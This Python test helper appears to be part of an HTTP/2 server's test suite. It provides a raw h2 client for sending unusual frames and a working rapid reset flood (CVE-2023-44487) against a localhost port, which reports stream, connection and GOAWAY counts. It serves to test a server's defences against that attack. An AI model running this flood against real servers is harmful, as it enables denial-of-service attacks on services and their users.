"""A bare HTTP/2 client on the h2 library, for what httpx and curl will not
send: separate cookie fields, an extended CONNECT, a stream reset mid-upload,
a receive window of 0 (a client that takes no response bytes), and the rapid
reset flood, which also runs as its own process (so that it shares no GIL
with what it measures) and prints one JSON line of what happened:

    python tests/h2client.py rapid-reset PORT --seconds 5 [--cafile CA] [--path /echo]
"""

from __future__ import annotations

import argparse
import json
import select
import socket
import ssl
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings


class RawH2:
    """One HTTP/2 connection. `window` sets SETTINGS_INITIAL_WINDOW_SIZE:
    0 lets the server send no response body bytes until WINDOW_UPDATE."""

    def __init__(self, port: int, ca_file: str | None = None, window: int | None = None):
        raw = socket.create_connection(("127.0.0.1", port), timeout=10)
        if ca_file:
            context = ssl.create_default_context(cafile=ca_file)
            context.set_alpn_protocols(["h2"])
            self.sock = context.wrap_socket(raw, server_hostname="127.0.0.1")
            assert self.sock.selected_alpn_protocol() == "h2"
        else:
            self.sock = raw  # h2c, prior knowledge
        self.authority = f"127.0.0.1:{port}"
        self.scheme = "https" if ca_file else "http"
        # Unchecked, so that the tests can send what a careful client would not.
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8",
                                           validate_outbound_headers=False)
        self.conn = h2.connection.H2Connection(config)
        self.conn.initiate_connection()
        if window is not None:
            self.conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
        self.flush()
        self.streams: dict[int, dict] = {}

    def flush(self) -> None:
        data = self.conn.data_to_send()
        if data:
            self.sock.sendall(data)

    def request(self, method: str, path: str, headers=(), body: bytes | None = None,
                end: bool = True, pseudo=()) -> int:
        stream_id = self.conn.get_next_available_stream_id()
        fields = [(":method", method), (":scheme", self.scheme), (":authority", self.authority),
                  (":path", path), *pseudo, *headers]
        self.conn.send_headers(stream_id, fields, end_stream=end and not body)
        if body:
            self.conn.send_data(stream_id, body, end_stream=end)
        self.flush()
        self.streams[stream_id] = {"status": None, "headers": [], "body": b"", "reset": None, "ended": False,
                                   "interim": []}
        return stream_id

    def send(self, stream_id: int, data: bytes, end: bool = False) -> None:
        self.conn.send_data(stream_id, data, end_stream=end)
        self.flush()

    def reset(self, stream_id: int, flush: bool = True) -> None:
        self.conn.reset_stream(stream_id, error_code=0x8)  # CANCEL
        if flush:
            self.flush()

    def take(self) -> list:
        """The events of whatever the server has sent already, without waiting."""
        events = []
        while select.select([self.sock], [], [], 0)[0] or (
                isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()):
            data = self.sock.recv(65536)
            if not data:
                raise ConnectionError("the server closed the connection")
            events += self.conn.receive_data(data)
        self.flush()
        return events

    def response(self, stream_id: int) -> dict:
        """Read until the stream ends or is reset: status, headers, body, reset,
        and the interim (1xx) answers' headers."""
        state = self.streams[stream_id]
        while not state["ended"] and state["reset"] is None:
            data = self.sock.recv(65536)
            if not data:
                raise ConnectionError("the server closed the connection")
            for event in self.conn.receive_data(data):
                s = self.streams.get(getattr(event, "stream_id", None))
                if s is None:
                    continue
                if isinstance(event, h2.events.InformationalResponseReceived):
                    s["interim"].append(list(event.headers))
                elif isinstance(event, h2.events.ResponseReceived):
                    s["headers"] = list(event.headers)
                    s["status"] = int(dict(event.headers)[":status"])
                elif isinstance(event, h2.events.DataReceived):
                    s["body"] += event.data
                    self.conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                elif isinstance(event, h2.events.StreamEnded):
                    s["ended"] = True
                elif isinstance(event, h2.events.StreamReset):
                    s["reset"] = event.error_code
            self.flush()
        return state

    def close(self) -> None:
        try:
            self.conn.close_connection()
            self.flush()
        except OSError:
            pass
        self.sock.close()


def rapid_reset(port: int, seconds: float, ca_file: str | None = None, path: str = "/echo",
                burst: int = 20, delay: float = 0.02) -> dict:
    """The rapid reset flood (CVE-2023-44487) for `seconds`: on one
    connection at a time, `burst` requests, then `delay` later a
    RST_STREAM (CANCEL) for each; a new connection whenever the server
    closes one. Counted: streams, connections, GOAWAYs by error code, and
    connections refused."""
    result = {"streams": 0, "connections": 0, "goaway": {}, "refused": 0}
    end = time.monotonic() + seconds
    conn = None
    while time.monotonic() < end:
        try:
            if conn is None:
                conn = RawH2(port, ca_file)
                result["connections"] += 1
            sent = [conn.request("GET", path) for _ in range(burst)]
            result["streams"] += len(sent)
            time.sleep(delay)
            for stream_id in sent:
                conn.reset(stream_id, flush=False)
            conn.flush()
            for event in conn.take():
                if isinstance(event, h2.events.ConnectionTerminated):
                    name = h2.errors.ErrorCodes(event.error_code).name
                    result["goaway"][name] = result["goaway"].get(name, 0) + 1
                    raise ConnectionError("GOAWAY")
        except (OSError, h2.exceptions.ProtocolError):
            if conn is None:
                result["refused"] += 1
                time.sleep(0.05)
            else:
                conn.sock.close()
                conn = None
    if conn is not None:
        conn.close()
    return result


def main(argv=None) -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("kind", choices=["rapid-reset"])
    parser.add_argument("port", type=int)
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--cafile", help="HTTP/2 over TLS trusting this CA; else h2c (prior knowledge)")
    parser.add_argument("--path", default="/echo")
    parser.add_argument("--burst", type=int, default=20)
    parser.add_argument("--delay", type=float, default=0.02)
    args = parser.parse_args(argv)
    print(json.dumps(rapid_reset(args.port, args.seconds, args.cafile, args.path, args.burst, args.delay)),
          flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
